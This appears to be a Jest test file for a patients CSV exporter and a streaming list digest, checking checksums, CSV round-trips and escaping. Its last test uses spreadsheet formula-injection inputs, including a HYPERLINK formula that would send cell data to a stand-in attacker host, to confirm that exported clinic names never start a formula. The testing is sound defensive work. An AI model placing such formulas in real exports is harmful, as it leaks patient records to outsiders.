import { createHash } from 'node:crypto';
import { expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import { array, assert, constantFrom, oneof, property, string } from 'fast-check';
import { ListDigest } from './list-digest.js';
import { csvOfListLine, listLineOf, PatientsCsv, patientsHeading } from './patients-csv.js';

const lines = Array.from({ length: 300 }, (_, n) => `c${n}\\tx\tp${n}\tdisplayed\tidentity,lab\t2026\t2026\t${n}`);
const rows = Buffer.from(lines.map((line, n) => `${line}\tk${n % 2},k9\tone, "two"\n`).join(''));
const sha256 = (text: string | Buffer) => createHash('sha256').update(text).digest('hex');

it.each([1, 7, 64, 1_000_000])('digests lines and rows whatever the pieces: %i bytes', (size) => {
  const digest = new ListDigest();
  for (let at = 0; at < rows.length; at += size) digest.take(rows.subarray(at, at + size));
  expect(digest.end()).toEqual({
    lines: 300,
    sha256: sha256(lines.map((line) => `${line}\n`).join('')),
    rows_sha256: sha256(rows),
  });
});

it('refuses a list that ends in the middle of a line', () => {
  const digest = new ListDigest();
  digest.take(rows.subarray(0, 100));
  expect(() => digest.end()).toThrow('middle of a line');
});

it('as CSV is the same lines again', async () => {
  const csv = new PatientsCsv();
  for (let at = 0; at < rows.length; at += 13) csv.write(rows.subarray(at, at + 13));
  csv.end();
  const texts: string[] = [];
  for await (const piece of csv) texts.push(String(piece));
  const [heading, first, ...rest] = texts.join('').split('\n');
  expect([heading, rest.length]).toEqual([patientsHeading, 300]);
  expect(first).toBe('c0\tx,p0,displayed,"identity,lab",2026,2026,0,"k0,k9"');
  expect(csvOfListLine(`${lines[3]}\tk1,k9\tone`)).toBe('c3\tx,p3,displayed,"identity,lab",2026,2026,3,"k1,k9"\n');
  expect(listLineOf(['c3\tx', 'p3', 'displayed', 'identity,lab', '2026', '2026', '3', 'k1,k9'])).toBe(`${lines[3]}\n`);
});

it('computes nothing in a spreadsheet, whatever a clinic is called, and is the same lines again', () => {
  const name = oneof(
    constantFrom('=HYPERLINK("http://evil.example?"&B2)', '+1', '-2+3', '@SUM(A1)', "'=1", "''@x", '\\t=1', '=', "'", ''),
    array(constantFrom('=', "'", '+', '-', '@', '\\t', '\\r', 'a', '1', ' ', ',', '"'), { maxLength: 6 }).map((all) =>
      all.join(''),
    ),
    string().map((text) => text.replaceAll(/[\\\t\n\r\b\f\0']/g, '')),
  );
  assert(
    property(name, (clinic) => {
      const line = [clinic.replaceAll("'", "\\'"), 'p', 'displayed', 'identity', '2026', '2026', '1', 'k1'].join('\t');
      const [cells = []] = parse(csvOfListLine(line)) as string[][];
      expect(cells[0]).not.toMatch(/^[=+\-@\t\r]/);
      expect(listLineOf(cells)).toBe(`${line.split('\t').slice(0, 7).join('\t')}\n`);
    }),
  );
});
